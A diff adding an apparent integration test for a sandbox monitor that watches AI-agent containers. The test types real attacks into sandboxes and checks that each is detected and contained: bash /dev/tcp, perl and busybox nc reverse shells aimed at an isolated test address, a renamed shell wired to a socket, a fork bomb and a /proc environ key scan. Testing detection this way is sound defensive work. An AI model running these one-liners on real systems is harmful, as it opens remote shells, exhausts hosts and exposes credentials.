@@ -1,0 +1,439 @@
+/**
+ * The monitor's acceptance: real attacks in real sandboxes, watched by a real
+ * guard of our own (private socket, limited to this run's sandboxes), against
+ * listeners in the dead-end namespace only (198.51.100.2, owned by
+ * `coi-deadend`: nothing leaves the machine). Every connection and loop is
+ * bounded in time.
+ *
+ * What is asserted is what a person would see: the threat pushed on the
+ * guard's `threat` topic, the line in the owner's audit log, the container
+ * frozen or gone. Containment latencies are measured and printed, not
+ * asserted (a shared 2-core machine says little about them).
+ *
+ * Tested reverse shells: bash /dev/tcp one-liner, a copy of sh renamed
+ * `update-check` (behaviour only), perl (perl-base is in coi-base), busybox
+ * nc -e. python3 and socat are not in coi-base, so not tested here.
+ */
+import { strict as assert } from 'node:assert';
+import { ChildProcess, spawn, spawnSync } from 'node:child_process';
+import { randomBytes, randomInt } from 'node:crypto';
+import { chmodSync, existsSync, mkdirSync, mkdtempSync, openSync, readFileSync, readdirSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
+import * as path from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import { GuardClient } from '../../helper/guard/client';
+import { auditLocation } from '../../helper/guard/monitor/audit-location';
+import { readFreezer, writeFreezer } from '../../helper/host/freezer';
+import type { IncusClient } from '../../helper/incus/client';
+import type { GuardEvent, ThreatEventWire, ThreatRecord } from '../../helper/protocol/methods';
+import { tmuxSession } from '../../helper/sandbox/naming';
+import { DEAD_END_HOSTS, SETUP_NAMES } from '../../helper/setup/names';
+import { coi, CoiResult, HELPER, requireIncus, sleep } from './support';
+
+const t0 = Date.now();
+const PREFIX = `coi-tm${randomBytes(2).toString('hex')}-`;
+const root = mkdtempSync('/tmp/coi-mon-it-');
+chmodSync(root, 0o755);
+const socketPath = path.join(root, 'guard.sock');
+const guardLog = path.join(root, 'guard.log');
+const TARGET = DEAD_END_HOSTS.internet; // 198.51.100.2, in the dead-end namespace
+const PORT0 = randomInt(41_000, 48_000); // never a classic C2 port: the behaviour must be what is caught
+let c: IncusClient;
+let guard: ChildProcess | undefined;
+let listener: ChildProcess | undefined;
+let client: GuardClient;
+const threats: ThreatEventWire[] = [];
+const accepted = new Map<number, number>(); // port → time of the first accepted connection
+const measured: string[] = [];
+
+/** Two configurations: the default (monitoring on), and one that keeps a forensic copy (persistent, so no other guard's reaper races the copy). */
+const homes = { main: path.join(root, 'home'), forensics: path.join(root, 'home-forensics') };
+const config = (extra = '') => `[container]\nimage = "coi-base"\n${extra}\n[tool]\nname = "shell"\n\n[monitoring]\nenabled = true\n${extra.includes('persistent') ? 'forensics_on_kill = true\n' : ''}\n[limits.runtime]\nmax_processes = 500\n`;
+
+function startGuard(): ChildProcess {
+  const fd = openSync(guardLog, 'a');
+  const g = spawn(process.execPath, [HELPER, 'guard', 'run'], {
+    env: { ...process.env, COI_GUARD_SOCKET: socketPath, COI_GUARD_MONITOR_PREFIX: PREFIX, COI_LOG_LEVEL: 'debug' },
+    stdio: ['ignore', fd, fd],
+  });
+  return g;
+}
+
+/** One process in the dead-end namespace listening on the attack ports; a line per accepted connection; gone after 230 s. */
+function startListener(ports: number[]): Promise<void> {
+  const script = `
+    const net = require('net');
+    const socks = [];
+    let up = 0;
+    for (const port of ${JSON.stringify(ports)}) {
+      const srv = net.createServer((s) => {
+        socks.push(s);
+        s.on('error', () => {});
+        console.log(JSON.stringify({ port, t: Date.now() }));
+        s.write('id\\n');
+      });
+      srv.listen(port, ${JSON.stringify(TARGET)}, () => { if (++up === ${ports.length}) console.log(JSON.stringify({ ready: true })); });
+    }
+    setTimeout(() => { for (const s of socks) s.destroy(); process.exit(0); }, 230000);`;
+  listener = spawn('ip', ['netns', 'exec', SETUP_NAMES.deadEndNamespace, process.execPath, '-e', script], { stdio: ['ignore', 'pipe', 'inherit'] });
+  return new Promise((resolve, reject) => {
+    let buf = '';
+    const t = setTimeout(() => reject(new Error('the listener did not come up')), 10_000);
+    listener!.stdout!.on('data', (d: Buffer) => {
+      buf += d.toString();
+      const lines = buf.split('\n');
+      buf = lines.pop() ?? '';
+      for (const l of lines) {
+        const m = JSON.parse(l) as { ready?: boolean; port?: number; t?: number };
+        if (m.ready) {
+          clearTimeout(t);
+          resolve();
+        }
+        if (m.port && !accepted.has(m.port)) accepted.set(m.port, m.t!);
+      }
+    });
+  });
+}
+
+async function launch(ws: string, home = homes.main): Promise<string> {
+  mkdirSync(ws, { recursive: true });
+  let last: CoiResult | undefined;
+  for (let attempt = 1; attempt <= 2; attempt++) {
+    last = await coi(['shell', '--background', '--workspace', ws], { HOME: home, COI_CONTAINER_PREFIX: PREFIX, COI_GUARD_SOCKET: socketPath }, 180_000);
+    if (last.code === 0) return last.stdout.trim();
+    // Under heavy load a launch sometimes loses its tmux session (not the monitor's doing): once more.
+    if (!/tmux session .* ended at once/.test(last.stderr)) break;
+  }
+  throw new Error(`coi shell failed: ${last?.stderr}`);
+}
+
+/** Types a command into the agent's tmux pane, as the agent's own shell would run it. */
+async function type(name: string, text: string): Promise<void> {
+  const env = { HOME: '/home/code', USER: 'code' };
+  const a = await c.exec(name, ['tmux', 'send-keys', '-t', tmuxSession(name), '-l', text], { user: 1000, group: 1000, env });
+  assert.equal(a.exitCode, 0, a.stderr);
+  const b = await c.exec(name, ['tmux', 'send-keys', '-t', tmuxSession(name), 'Enter'], { user: 1000, group: 1000, env });
+  assert.equal(b.exitCode, 0, b.stderr);
+}
+
+function threatsOf(name: string): ThreatRecord[] {
+  return threats.filter((t) => t.container === name).map((t) => t.record);
+}
+
+/** What was pushed, and what is in the audit log (a subscriber reconnecting after a guard restart may miss a push). */
+function seenOf(name: string): ThreatRecord[] {
+  const pushed = threatsOf(name);
+  const ids = new Set(pushed.map((r) => r.id));
+  return [...pushed, ...auditLines(name).records.filter((r) => !ids.has(r.id))];
+}
+
+async function waitFor<T>(what: string, f: () => T | undefined | Promise<T | undefined>, timeoutMs = 20_000, everyMs = 50): Promise<T> {
+  const deadline = Date.now() + timeoutMs;
+  for (;;) {
+    const v = await f();
+    if (v !== undefined) return v;
+    if (Date.now() > deadline) throw new Error(`timed out after ${timeoutMs} ms waiting for ${what}\n--- guard log (tail) ---\n${tail(guardLog, 30)}`);
+    await sleep(everyMs);
+  }
+}
+
+function tail(file: string, n: number): string {
+  try {
+    return readFileSync(file, 'utf8').split('\n').slice(-n).join('\n');
+  } catch {
+    return '';
+  }
+}
+
+const auditFile = (name: string) => path.join(auditLocation(0).dir, `${name}.jsonl`);
+
+function auditLines(name: string): { records: ThreatRecord[]; bad: number } {
+  const text = existsSync(auditFile(name)) ? readFileSync(auditFile(name), 'utf8') : '';
+  let bad = 0;
+  const records: ThreatRecord[] = [];
+  for (const l of text.split('\n')) {
+    if (!l.trim()) continue;
+    try {
+      records.push(JSON.parse(l) as ThreatRecord);
+    } catch {
+      bad++;
+    }
+  }
+  return { records, bad };
+}
+
+async function gone(name: string, timeoutMs = 30_000): Promise<number> {
+  await waitFor(`${name} to be deleted`, async () => ((await c.instanceExists(name)) ? undefined : true), timeoutMs, 100);
+  return Date.now();
+}
+
+/** Waits for the sandbox's CRITICAL reverse shell, then for it to be gone; prints the latencies. */
+async function expectKilled(label: string, name: string, port: number, category = 'reverse_shell'): Promise<ThreatRecord> {
+  const crit = await waitFor(`${label}: a CRITICAL ${category} threat for ${name}`, () => seenOf(name).find((r) => r.level === 'critical' && r.category === category), 20_000);
+  assert.equal(crit.action, 'killed', `${label}: ${JSON.stringify(crit).slice(0, 400)}`);
+  await gone(name);
+  const killedLine = await waitFor(`${label}: the "Sandbox killed" line`, () => auditLines(name).records.find((r) => r.title === 'Sandbox killed'), 10_000);
+  const frozenAt = Date.parse(crit.response?.frozenAt ?? '');
+  const stoppedMs = Number((killedLine.evidence as { stoppedMs?: number }).stoppedMs ?? NaN);
+  const connect = accepted.get(port);
+  measured.push(
+    port < 0
+      ? `${label}: detect → freeze ${crit.response?.containMs} ms, stopped ${stoppedMs} ms after the freeze (rule ${crit.evidence.rule})`
+      : connect !== undefined
+      ? `${label}: connect → frozen ${frozenAt - connect} ms${frozenAt < connect ? ' (frozen before the listener saw the connection: caught at its exec)' : ''}, connect → stopped ${frozenAt + stoppedMs - connect} ms (rule ${crit.evidence.rule}, detect → freeze ${crit.response?.containMs} ms)`
+      : `${label}: frozen before any connection reached the listener (rule ${crit.evidence.rule}); stopped ${stoppedMs} ms after the freeze`,
+  );
+  return crit;
+}
+
+before(async () => {
+  c = await requireIncus();
+  for (const [k, h] of Object.entries(homes)) {
+    mkdirSync(path.join(h, '.coi'), { recursive: true });
+    writeFileSync(path.join(h, '.coi', 'config.toml'), config(k === 'forensics' ? 'persistent = true\n' : ''));
+  }
+  await startListener([0, 1, 2, 3, 4].map((i) => PORT0 + i));
+  guard = startGuard();
+  client = new GuardClient({ socketPath, reconnect: true });
+  client.on('event', (e: GuardEvent) => {
+    if (e.topic === 'threat') threats.push(e.event);
+  });
+  await client.subscribe(['threat']);
+  client.connect({ timeoutMs: 1_000 }).catch(() => undefined);
+  await client.waitConnected(20_000);
+});
+
+after(async () => {
+  client?.close();
+  // Stopped, so it removes its trace instances (a guard killed -9 leaves them to the next one).
+  if (guard && guard.exitCode === null && guard.signalCode === null) {
+    const g = guard;
+    const exited = new Promise<void>((r) => g.once('exit', () => r()));
+    g.kill('SIGTERM');
+    await Promise.race([exited, sleep(5_000)]);
+    g.kill('SIGKILL');
+  }
+  listener?.kill('SIGKILL');
+  for (const i of await c.listInstances().catch(() => [])) {
+    if (i.name.startsWith(PREFIX)) await c.deleteInstance(i.name, { force: true }).catch(() => undefined);
+  }
+  // The guard's log and the audit files stay in /tmp/coi-monitor-test-last for a look after a failure.
+  const keep = '/tmp/coi-monitor-test-last';
+  rmSync(keep, { recursive: true, force: true });
+  mkdirSync(keep, { recursive: true });
+  if (existsSync(guardLog)) writeFileSync(path.join(keep, 'guard.log'), readFileSync(guardLog));
+  const dir = auditLocation(0).dir;
+  for (const f of existsSync(dir) ? readdirSync(dir) : []) {
+    if (!f.startsWith(PREFIX)) continue;
+    writeFileSync(path.join(keep, f), readFileSync(path.join(dir, f)));
+    rmSync(path.join(dir, f), { force: true });
+  }
+  if (measured.length) console.log(`\n# containment latencies (measured, not asserted)\n${measured.map((m) => `#   ${m}`).join('\n')}`);
+  console.log(`# monitor.test: ${((Date.now() - t0) / 1000).toFixed(1)} s`);
+  rmSync(root, { recursive: true, force: true });
+});
+
+describe('the monitor in the guard', () => {
+  const names: Record<string, string> = {};
+
+  test('sandboxes created with [monitoring] enabled carry their policy and are watched', async () => {
+    // The benign workspace is a git project already (inside, .git/config is protected: read-only).
+    const ws = path.join(root, 'ws-benign');
+    mkdirSync(path.join(ws, 'src'), { recursive: true });
+    mkdirSync(path.join(ws, 'tests'), { recursive: true });
+    for (let i = 0; i < 12; i++) writeFileSync(path.join(ws, 'src', `m${i}.txt`), `module ${i}\n${'x'.repeat(2000)}\n`);
+    for (let i = 0; i < 10; i++) writeFileSync(path.join(ws, 'tests', `t${i}.sh`), `#!/bin/sh\ntest -s /workspace/build/m${i}.out || exit 1\ngrep -q "MODULE ${i}" /workspace/build/m${i}.out\n`);
+    const git = (...args: string[]) => {
+      const r = spawnSync('git', ['-C', ws, '-c', 'user.email=a@example.invalid', '-c', 'user.name=test', ...args], { encoding: 'utf8' });
+      assert.equal(r.status, 0, r.stderr);
+    };
+    git('init', '-q', '-b', 'main');
+    git('add', '-A');
+    git('commit', '-qm', 'initial');
+
+    const list = ['benign', 'devtcp', 'renamed', 'perl', 'busybox', 'restart'];
+    const launched = await Promise.all(list.map((k) => launch(path.join(root, `ws-${k}`), k === 'devtcp' ? homes.forensics : homes.main)));
+    list.forEach((k, i) => (names[k] = launched[i]!));
+    const inst = await c.getInstance(names.benign!);
+    const label = JSON.parse(inst.config['user.coi.monitor'] ?? '{}') as Record<string, unknown>;
+    assert.equal(label.enabled, true);
+    assert.equal(label.process_count_threshold, 100);
+    for (const n of Object.values(names)) {
+      await waitFor(`${n} to be watched`, () => threatsOf(n).find((r) => r.title === 'Monitoring started'), 20_000);
+    }
+    const listed = await coi(['list', '--format', 'json'], { HOME: homes.main, COI_CONTAINER_PREFIX: PREFIX });
+    const sb = (JSON.parse(listed.stdout) as { sandboxes: { name: string; monitored?: boolean }[] }).sandboxes.find((s) => s.name === names.benign);
+    assert.equal(sb?.monitored, true, 'coi list says it is monitored');
+  });
+
+  test('a benign workload (git in the workspace, a build and test loop in sh) raises nothing above INFO', async () => {
+    const name = names.benign!;
+    const ws = path.join(root, 'ws-benign');
+    writeFileSync(
+      path.join(ws, 'work.sh'),
+      [
+        'set -e',
+        'cd /workspace',
+        'export GIT_AUTHOR_NAME=agent GIT_AUTHOR_EMAIL=a@example.invalid GIT_COMMITTER_NAME=agent GIT_COMMITTER_EMAIL=a@example.invalid',
+        'for round in 1 2 3; do',
+        '  mkdir -p build',
+        '  for f in src/*.txt; do b=$(basename "$f" .txt); tr a-z A-Z < "$f" | sort > "build/$b.out"; done',
+        '  for t in tests/*.sh; do sh "$t"; done',
+        '  echo "round $round" >> CHANGES && git add -A && git commit -qm "round $round"',
+        '  git log --oneline | head -3 > /dev/null; git status --short > /dev/null; git diff HEAD~1 --stat > /dev/null',
+        'done',
+        'git checkout -q -b feature && git checkout -q - && git branch -q -D feature',
+      ].join('\n'),
+    );
+    await type(name, 'sh /workspace/work.sh > /workspace/work.log 2>&1; echo $? > /workspace/work.exit');
+    const exit = await waitFor('the benign workload to finish', () => (existsSync(path.join(ws, 'work.exit')) ? readFileSync(path.join(ws, 'work.exit'), 'utf8').trim() || undefined : undefined), 60_000, 200);
+    assert.equal(exit, '0', readFileSync(path.join(ws, 'work.log'), 'utf8'));
+    await sleep(1_500);
+    const above = threatsOf(name).filter((r) => r.level !== 'info');
+    assert.deepEqual(above.map((r) => `${r.level} ${r.title}: ${r.description}`), [], 'nothing above INFO');
+    assert.equal(readFreezer(name), 'thawed');
+  });
+
+  test('coi monitor shows the sandbox\'s processes and coi audit its log', async () => {
+    const name = names.benign!;
+    const r = await coi(['monitor', name, '--format', 'json'], { COI_GUARD_SOCKET: socketPath });
+    assert.equal(r.code, 0, r.stderr);
+    const snap = JSON.parse(r.stdout) as { execEvents: { available: boolean }; monitors: { state: string; processes: { argv: string[] }[] }[] };
+    assert.equal(snap.monitors[0]?.state, 'watching');
+    assert.ok(snap.monitors[0]!.processes.some((p) => p.argv[0] === 'tmux'), 'the agent\'s tmux is among the processes');
+    assert.equal(snap.execEvents.available, true, 'the kernel trace is in use');
+    const a = await coi(['audit', name, '--format', 'json']);
+    assert.equal(a.code, 0, a.stderr);
+    assert.ok(a.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as ThreatRecord).some((x) => x.title === 'Monitoring started'));
+  });
+
+  test('cat /proc/*/environ | grep -i key is a WARNING, alerted, and nothing is stopped', async () => {
+    const name = names.benign!;
+    const before = Date.now();
+    await type(name, 'cat /proc/*/environ | grep -i key');
+    const w = await waitFor('a credential WARNING', () => threatsOf(name).find((r) => r.category === 'credential_access' && Date.parse(r.timestamp) >= before - 1_000), 10_000);
+    assert.equal(w.level, 'warning');
+    assert.equal(w.action, 'alerted');
+    assert.ok(w.evidence.process?.lineage.some((l) => l.comm === 'bash'), `the chain reaches the agent's shell: ${JSON.stringify(w.evidence.process?.lineage)}`);
+    measured.push(`environ scan: seen ${Date.parse(w.timestamp) - before} ms after the keys were sent to tmux (rule ${w.evidence.rule})`);
+    await sleep(500);
+    assert.equal(readFreezer(name), 'thawed', 'a WARNING does not freeze');
+    assert.ok(auditLines(name).records.some((r) => r.id === w.id), 'the WARNING is in the audit log');
+  });
+
+  test('reading 200 MB of the workspace in a few seconds freezes the container; coi resume thaws it', async () => {
+    const name = names.benign!;
+    // Sparse: 200 MB to read without writing 200 MB to a shared disk.
+    writeFileSync(path.join(root, 'ws-benign', 'big.bin'), '');
+    truncateSync(path.join(root, 'ws-benign', 'big.bin'), 200 * 1024 * 1024);
+    // One reader (cat) paced by its consumer: 20 × 10 MB, ~0.12 s apart.
+    await type(name, 'cat /workspace/big.bin | (for i in $(seq 20); do head -c 10485760 > /dev/null; sleep 0.12; done)');
+    const high = await waitFor('a HIGH large read', () => threatsOf(name).find((r) => r.category === 'large_io'), 20_000);
+    assert.equal(high.level, 'high');
+    assert.equal(high.action, 'paused');
+    assert.ok(['frozen', 'freezing'].includes(readFreezer(name) ?? ''), 'the cgroup is frozen');
+    await waitFor('Incus to say frozen', async () => ((await c.getState(name)).status === 'Frozen' ? true : undefined), 15_000, 100);
+    measured.push(`200 MB read: detect → cgroup frozen ${high.response?.containMs} ms (${high.description.slice(0, 100)})`);
+    // What a person does before resuming: end the offending command (SIGKILL waits for the thaw;
+    // nothing of it runs again). Left running, the rest of the read would be frozen again.
+    const reader = high.evidence.process?.pid;
+    assert.ok(reader, 'the reader is named');
+    process.kill(reader, 'SIGKILL');
+    const r = await coi(['resume', name], { HOME: homes.main, COI_CONTAINER_PREFIX: PREFIX });
+    assert.equal(r.code, 0, r.stderr);
+    assert.equal(readFreezer(name), 'thawed');
+    assert.equal((await c.getState(name)).status, 'Running');
+
+    // A guard killed between its cgroup freeze and telling Incus leaves Incus saying Running:
+    // coi resume still thaws it (Incus alone would refuse: "already running").
+    assert.equal(writeFreezer(name, true).ok, true);
+    await waitFor('the cgroup to freeze', () => (readFreezer(name) === 'frozen' ? true : undefined), 5_000);
+    assert.equal((await c.getState(name)).status, 'Running', 'Incus did not notice');
+    const r2 = await coi(['resume', name], { HOME: homes.main, COI_CONTAINER_PREFIX: PREFIX });
+    assert.equal(r2.code, 0, r2.stderr);
+    assert.equal(readFreezer(name), 'thawed');
+    assert.equal((await c.getState(name)).status, 'Running');
+  });
+
+  test('a fork bomb is killed (limits.processes keeps the host safe meanwhile)', async () => {
+    const name = names.benign!;
+    await type(name, 'f(){ f|f& };f');
+    await expectKilled('fork bomb', name, -1, 'process_storm');
+    const recs = auditLines(name).records;
+    assert.ok(recs.some((x) => x.category === 'process_storm' && x.action === 'killed'));
+  });
+
+  test('a bash /dev/tcp reverse shell is killed; the line has the remote address and the chain; a forensic copy is kept', async () => {
+    const name = names.devtcp!;
+    const port = PORT0;
+    await type(name, `bash -c 'exec 3<>/dev/tcp/${TARGET}/${port}; exec sh -i <&3 >&3 2>&3'`);
+    const crit = await expectKilled('bash /dev/tcp', name, port);
+    assert.equal(crit.evidence.network?.remote, TARGET);
+    assert.equal(crit.evidence.network?.port, port);
+    const chain = crit.evidence.process?.lineage ?? [];
+    assert.ok(chain.length >= 3, `the chain: ${JSON.stringify(chain)}`);
+    assert.ok(chain.some((l) => l.comm.startsWith('tmux')), 'up to the agent\'s tmux');
+    const line = auditLines(name).records.find((r) => r.id === crit.id);
+    assert.ok(line, 'the pushed threat is the audit line');
+    const copies = (await c.listInstances()).filter((i) => i.config?.['user.coi.forensics-of'] === name);
+    assert.equal(copies.length, 1, 'one forensic copy');
+    assert.equal(copies[0]!.config['user.coi.managed'], 'false', 'the copy is no sandbox');
+    assert.equal(copies[0]!.status, 'Stopped');
+  });
+
+  test('a copy of sh renamed update-check, wired to a socket by a script, is killed by behaviour alone', async () => {
+    const name = names.renamed!;
+    const port = PORT0 + 1;
+    writeFileSync(path.join(root, 'ws-renamed', 'uc.sh'), `cp /bin/sh /tmp/update-check\nexec 3<>/dev/tcp/${TARGET}/${port}\nexec /tmp/update-check <&3 >&3 2>&3\n`);
+    await type(name, 'bash /workspace/uc.sh');
+    const crit = await expectKilled('renamed sh', name, port);
+    assert.equal(crit.evidence.process?.comm, 'update-check');
+    assert.match(crit.evidence.rule, /^reverse-shell\/(stdio-redirected-network|shell-stdio-network|inherited-network-stdio)$/);
+    assert.equal(crit.evidence.network?.remote, TARGET);
+    assert.equal(crit.evidence.network?.port, port);
+    assert.ok(accepted.has(port), 'the connection was made (and then contained)');
+  });
+
+  test('a perl reverse shell is killed', async () => {
+    const name = names.perl!;
+    const port = PORT0 + 2;
+    await type(name, `perl -e 'use Socket;$i="${TARGET}";$p=${port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`);
+    const crit = await expectKilled('perl', name, port);
+    assert.equal(crit.evidence.network?.remote, TARGET);
+    assert.equal(crit.evidence.network?.port, port);
+    assert.ok((crit.evidence.process?.lineage.length ?? 0) >= 2);
+  });
+
+  test('a busybox nc -e reverse shell is killed', async () => {
+    const name = names.busybox!;
+    const port = PORT0 + 3;
+    await type(name, `busybox nc ${TARGET} ${port} -e /bin/sh`);
+    const crit = await expectKilled('busybox nc -e', name, port);
+    assert.equal(crit.evidence.network?.remote, TARGET);
+    assert.equal(crit.evidence.network?.port, port);
+  });
+
+  test('kill -9 of the guard during an attack: a new guard picks the sandbox up and contains it; no audit line is lost', async () => {
+    const name = names.restart!;
+    const port = PORT0 + 4;
+    await type(name, 'cat /proc/*/environ | grep -i key');
+    const warning = await waitFor('the WARNING before the crash', () => threatsOf(name).find((r) => r.category === 'credential_access'), 10_000);
+    guard!.kill('SIGKILL');
+    await new Promise<void>((r) => (guard!.exitCode !== null || guard!.signalCode !== null ? r() : guard!.once('exit', () => r())));
+    // The attack runs while no guard watches.
+    writeFileSync(path.join(root, 'ws-restart', 'rs.sh'), `cp /bin/sh /tmp/update-check\nexec 3<>/dev/tcp/${TARGET}/${port}\nexec /tmp/update-check <&3 >&3 2>&3\n`);
+    await type(name, 'bash /workspace/rs.sh');
+    await waitFor('the reverse shell to connect while the guard is down', () => (accepted.has(port) ? true : undefined), 15_000);
+    const restartedAt = Date.now();
+    guard = startGuard();
+    const crit = await expectKilled('after kill -9 of the guard (connected while no guard ran)', name, port);
+    measured.push(`  the new guard froze it ${Date.parse(crit.response?.frozenAt ?? '') - restartedAt} ms after it was started (node start-up included)`);
+    const { records, bad } = auditLines(name);
+    assert.equal(bad, 0, 'every line parses: nothing torn');
+    const ids = new Set(records.map((r) => r.id));
+    assert.ok(ids.has(warning.id), 'the WARNING written before the crash is still there');
+    assert.ok(ids.has(crit.id), 'the CRITICAL of the new guard is there');
+    const lost = threatsOf(name).filter((r) => !ids.has(r.id));
+    assert.deepEqual(lost.map((r) => r.title), [], 'every pushed event is in the audit log');
+    assert.equal(records.filter((r) => r.title === 'Monitoring started').length, 2, 'started by each guard');
+  });
+});
